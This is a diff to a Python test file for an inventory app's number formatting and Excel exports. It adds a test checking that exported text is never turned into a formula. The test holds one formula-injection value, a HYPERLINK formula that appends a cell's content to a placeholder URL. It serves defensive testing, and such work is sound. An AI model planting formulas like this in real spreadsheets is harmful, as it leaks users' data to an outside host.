@@ -1,11 +1,12 @@
-"""Issue 9 item 22: pages and prints group digits (11,636.70); every Excel export has a title
-block (report, company, period, filters), a frozen header, number formats and widths that fit."""
+"""Numbers as users read them and Excel exports: pages and prints group digits (11,636.70); every
+Excel export has a title block (report, company, period, filters), a frozen header, number
+formats and widths that fit, and text that never becomes a formula."""
 
 import io
 import re
 
 import pytest
-from openpyxl import Workbook, load_workbook
+from openpyxl import load_workbook
 
 from openjxc.catalog.imports import import_items
 from openjxc.core.numbers import grouped
@@ -279,11 +280,19 @@ def test_an_exported_item_sheet_imports_again(client, user, big):
     assert result["ok"]
 
 
-def test_import_still_reads_a_plain_sheet_from_row_two(user):
-    wb = Workbook()
-    wb.active.append(["商品编码*", "商品名称*", "单位*"])
-    wb.active.append(["X1", "甲", "个"])
-    buf = io.BytesIO()
-    wb.save(buf)
-    result = import_items(user, buf.getvalue(), commit=False)
-    assert result["ok"] and [r["row"] for r in result["rows"]] == [2]
+def test_excel_never_turns_text_into_a_formula(db):
+    from openjxc.reports.excel import xlsx_response
+
+    name = '=HYPERLINK("http://x/?"&A1,"点击")'
+    r = xlsx_response(
+        "x.xlsx",
+        "x",
+        [("item_name", "名称"), ("qty", "数量")],
+        [{"item_name": name, "qty": "-3"}, {"item_name": "+1 杯", "qty": "2.5"}],
+    )
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert [[c.value for c in row] for row in ws.iter_rows(min_row=4)] == [
+        ["'" + name, -3],
+        ["'+1 杯", 2.5],
+    ]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
